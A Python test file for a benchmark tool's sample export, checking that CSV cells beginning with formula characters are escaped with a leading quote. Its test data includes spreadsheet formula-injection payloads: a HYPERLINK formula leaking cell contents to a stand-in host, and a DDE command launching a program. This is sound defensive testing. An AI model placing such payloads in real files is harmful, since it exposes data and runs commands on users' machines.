"""CSV export is safe to open in a spreadsheet (issue 41): a text cell starting with ``= + - @`` (or a
tab or carriage return before one) is written with a leading ``'``, so the spreadsheet shows it
instead of running it as a formula. Before, ``=HYPERLINK(...)`` went into the file as it was.
Parquet and JSON Lines keep the text unchanged; numbers (``-1.5``) are not touched.
"""

from __future__ import annotations

import csv
import json

import pyarrow as pa
from tests.bench3d.fixtures import make_bench, records_for

from scenebench.benchmarks.bench3d.api import score_3dbench
from scenebench.benchmarks.bench3d.writer import write_task
from scenebench.samples import export_samples, spreadsheet_safe

HOSTILE = ['=HYPERLINK("evil"&A1,"click")', "+1+cmd|' -C calc'!A0", "-2+3", "@SUM(A1:A9)"]  # a tab or CR: scene ids refuse them; see below
BENIGN = ["kitchen-1", "a=b", "x+y", "mail@example.org"]  # a sign inside a cell is no formula


def test_csv_export_quotes_formula_cells_and_keeps_the_rest(tmp_path):
    houses = tuple(str(470 + i) for i in range(len(HOSTILE) + len(BENIGN)))
    bench = make_bench(tmp_path / "bench", ["scene_caption"], houses=houses)
    recs = records_for("scene_caption", houses)
    scenes = HOSTILE + BENIGN  # scene ids a dataset (or an adversary) chose; the point clouds stay where they are
    for r, scene in zip(recs, scenes):
        r["id"] = scene
    write_task(bench, "scene_caption", recs)
    ans = tmp_path / "a.jsonl"
    ans.write_text("".join(json.dumps({"question_id": r["question_id"], "task": "SCaption", "text": "a kitchen"}) + "\n" for r in recs))
    run = tmp_path / "run"
    score_3dbench(bench, ans, tasks="scene_caption", out=run, n_resamples=0)

    with open(export_samples(run, tmp_path / "s.csv", "csv"), newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    got = {r["scene_id"] for r in rows}
    assert got == {"'" + h for h in HOSTILE} | set(BENIGN)
    for r in rows:  # every text cell of the file: none starts a formula
        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in r.values()), r

    with open(export_samples(run, tmp_path / "s.jsonl", "jsonl"), encoding="utf-8") as f:
        assert {json.loads(line)["scene_id"] for line in f} == set(scenes)  # JSON Lines: unchanged


def test_spreadsheet_safe_touches_only_text_cells():
    t = pa.table({"s": ["=1", None, "ok", "-x", "\t=1+1", "\r=2+2", " =3"], "v": [-1.5, 2.0, None, -3.0, 0.0, 1.0, 2.0]})
    out = spreadsheet_safe(t)
    assert out.column("s").to_pylist() == ["'=1", None, "ok", "'-x", "'\t=1+1", "'\r=2+2", " =3"]
    assert out.column("v").to_pylist() == [-1.5, 2.0, None, -3.0, 0.0, 1.0, 2.0]
